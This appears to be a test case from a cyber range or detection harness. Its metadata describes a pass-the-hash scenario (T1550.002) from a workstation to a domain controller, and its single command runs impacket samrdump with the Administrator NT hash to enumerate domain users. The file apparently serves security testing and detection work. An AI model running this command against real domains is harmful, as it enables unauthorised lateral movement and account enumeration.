# SPDX-License-Identifier: Apache-2.0
# what: pass-the-hash: accounts listed with an NT hash
# technique: T1550.002
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: finding rpc,discover
# must-sealed: unseen
# smb: both
. "$RANGE_HERE/item.sh"
says 'Found user|alice' impacket samrdump -hashes ":$(nthash Administrator)" "CORP/Administrator@$dc1"
